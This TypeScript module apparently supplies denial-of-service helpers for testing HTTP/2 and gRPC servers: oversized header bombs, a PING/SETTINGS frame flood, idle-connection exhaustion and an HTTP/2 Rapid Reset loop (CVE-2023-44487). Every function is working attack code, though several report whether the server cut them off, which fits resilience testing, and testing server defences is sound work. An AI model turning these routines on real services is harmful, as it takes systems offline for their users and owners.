import { setTimeout as sleep } from 'node:timers/promises';
import {
  exchange,
  grpcFrame,
  http2Frame,
  openHttp2,
  openSocket,
  PREFACE,
  type RawReply,
  request,
} from './raw-http2.js';

/** Metadata far beyond what any call needs, up to a megabyte. */
export const HEADER_BOMBS: readonly Record<string, string>[] = [
  { 'x-long': 'a'.repeat(60_000) },
  Object.fromEntries(Array.from({ length: 100 }, (_, at) => [`x-${at}`, 'v'.repeat(500)])),
  Object.fromEntries(Array.from({ length: 2000 }, (_, at) => [`x-${at}`, 'v'.repeat(20)])),
  { 'x-huge': 'a'.repeat(1_000_000) },
  { 'x-request-id': 'r'.repeat(50_000) },
];

/** Three calls with such headers on one connection. */
export async function headerBomb(
  address: string,
  path: string,
  headers: Record<string, string>,
): Promise<RawReply[]> {
  const session = openHttp2(address);
  const replies = await Promise.all(
    [1, 2, 3].map(() => exchange(request(session, path, headers), grpcFrame(new Uint8Array()))),
  );
  session.destroy();
  return replies;
}

/** A ping, and empty settings: each asks for an acknowledgement. */
export const FLOODING_FRAMES = [http2Frame(6, 0, 0, Buffer.alloc(8)), http2Frame(4, 0, 0)];

/** Sends 2,000 of the frame a hundred times, or until it is cut off; goes on when the next one is asked for. */
export async function* frameFlood(address: string, frame: Buffer): AsyncGenerator<void> {
  const { socket, closed } = openSocket(address);
  // Acknowledgements that nobody reads pile up on the other side.
  socket.pause();
  socket.write(PREFACE);
  const flood = Buffer.concat(Array.from({ length: 2000 }, () => frame));
  for (let at = 0; at < 100 && socket.writable; at++) {
    socket.write(flood);
    await sleep(1);
    yield;
  }
  socket.destroy();
  await closed;
}

/** Opens connections that say nothing after their first words; what it answers closes them. */
export function openIdle(address: string, count: number): () => Promise<unknown> {
  const opened = Array.from({ length: count }, () => openSocket(address));
  for (const { socket } of opened) socket.write(PREFACE);
  return () => {
    for (const { socket } of opened) socket.destroy();
    return Promise.all(opened.map(({ closed }) => closed));
  };
}

/** Begins calls and resets them (CVE-2023-44487); whether it is cut off before the 20,000th. */
export async function rapidReset(address: string, path: string): Promise<boolean> {
  const session = openHttp2(address);
  await new Promise((resolve) => session.once('connect', resolve));
  let sent = 0;
  while (!session.destroyed && !session.closed && sent < 20_000) {
    for (let at = 0; at < 200 && !session.destroyed && !session.closed; at++, sent++)
      request(session, path).close(8);
    await sleep(1);
  }
  session.destroy();
  return sent < 20_000;
}
